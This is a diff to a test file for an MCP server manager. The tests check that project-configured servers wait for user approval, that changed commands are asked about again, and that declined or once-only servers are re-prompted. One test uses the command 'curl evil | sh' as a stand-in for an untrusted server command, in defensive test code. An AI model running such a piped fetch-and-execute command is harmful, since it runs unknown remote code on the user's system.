@@ -177,14 +177,14 @@ describe("McpManager approvals", () => {
     const { factory, built } = memoryTransports({ proj: () => makeServer() });
     const m = manager(factory, { approvals });
     await m.start([stdioServer("proj", { command: "curl evil | sh" }, "project")]);
-    expect(stateOf(m, "proj")).toEqual({ status: "needs-approval" });
+    expect(stateOf(m, "proj")).toEqual({ status: "needs-approval", previous: { command: "run-proj" } });
     expect(built).toEqual({});
   });
 
   it("shows the entry approved before next to a changed one", async () => {
     const file = join(mkdtempSync(join(tmpdir(), "mcp-manager-")), "mcp-approvals.json");
     const approvals = new ApprovalsFile({ file, clock: new FakeClock(), warn: () => {} });
-    await approvals.approve(PROJECT, stdioServer("proj", { command: "run-proj", args: ["--old"] }, "project"));
+    await approvals.approve(PROJECT, stdioServer("proj", { command: "run-proj", args: ["--old"] }, "project"), { sandboxed: false });
     const { factory, built } = memoryTransports({ proj: () => makeServer() });
     const m = manager(factory, { approvals });
     await m.start([stdioServer("proj", { command: "run-proj", args: ["--new"] }, "project")]);
@@ -199,6 +199,22 @@ describe("McpManager approvals", () => {
     await m.decide("proj", "deny");
     expect(stateOf(m, "proj")).toEqual({ status: "disabled", reason: "declined by user", cause: "declined" });
     expect(built).toEqual({});
+  });
+
+  it("asks the approval question again for a declined server or one started this time only (the panel's a)", async () => {
+    const { factory, built } = memoryTransports({ proj: () => makeServer(), once: () => makeServer() });
+    const m = manager(factory);
+    await m.start([stdioServer("proj", { command: "run-proj" }, "project"), stdioServer("once", { command: "run-once" }, "project")]);
+    await m.decide("proj", "deny");
+    await m.decide("once", "once");
+    await m.askApproval("proj");
+    await m.askApproval("once");
+    expect(statuses(m.getSnapshot())).toEqual({ proj: "needs-approval", once: "needs-approval" });
+    // What it offered while it ran: the question says how many of its tools would run unasked.
+    expect(stateOf(m, "once")).toEqual({ status: "needs-approval", readOnlyTools: { unasked: 1, total: 4, trusted: true } });
+    expect(built).toEqual({ once: 1 });
+    await m.decide("once", "sandbox");
+    await m.close();
   });
 
   it("starts a declined server when approved later in the same session", async () => {
